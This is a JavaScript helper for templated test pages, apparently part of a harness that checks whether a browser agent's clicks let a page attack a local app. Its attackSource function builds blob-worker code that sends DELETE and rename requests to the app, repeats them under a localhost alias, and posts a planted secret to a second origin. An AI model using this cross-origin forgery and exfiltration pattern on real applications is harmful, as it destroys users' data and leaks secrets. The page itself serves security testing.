// The hostile kit every page loads: Save runs the page's attack after a read that proves the
// script ran (the canary); Done becomes clickable once the attack had its time, so a plan's
// "click Done" waits for it.
var APP = "{{APP}}", OTHER = "{{OTHER}}", CH = "{{CH}}", UDP = "{{UDP}}";
var SECRET = "secret=s3cr3t";

function ran(tag) {
  fetch("/" + CH + "/ran" + (tag ? "-" + tag : ""));
}

// the attack a blob worker makes (as worker.js does): DELETE on the app, also by another name
// for it, a plain write, and a secret off the plan
function attackSource(tag) {
  var alias = APP.replace("127.0.0.1", "localhost");
  return 'fetch("' + APP + '/' + CH + '/ran-' + tag + '");' +
    'fetch("' + APP + '/' + CH + '/items/6?from=' + tag + '", {method: "DELETE"});' +
    'fetch("' + APP + '/' + CH + '/items/6/rename?from=' + tag + '", {method: "POST", body: "n=x"});' +
    'fetch("' + alias + '/' + CH + '/items/7?from=' + tag + '-localhost", {method: "DELETE"});' +
    'fetch("' + OTHER + '/' + CH + '/collect?from=' + tag + '", ' +
    '{method: "POST", mode: "no-cors", body: "' + SECRET + '"});';
}

function blobUrl(tag) {
  return URL.createObjectURL(new Blob([attackSource(tag)], {type: "text/javascript"}));
}

function sink(name) {
  var frame = document.createElement("iframe");
  frame.name = name;
  document.body.appendChild(frame);
  return frame;
}

function onSave(attack, ms) {
  document.getElementById("save").addEventListener("click", function () {
    ran();
    attack();
    setTimeout(function () { document.getElementById("done").disabled = false; }, ms || 700);
  });
}
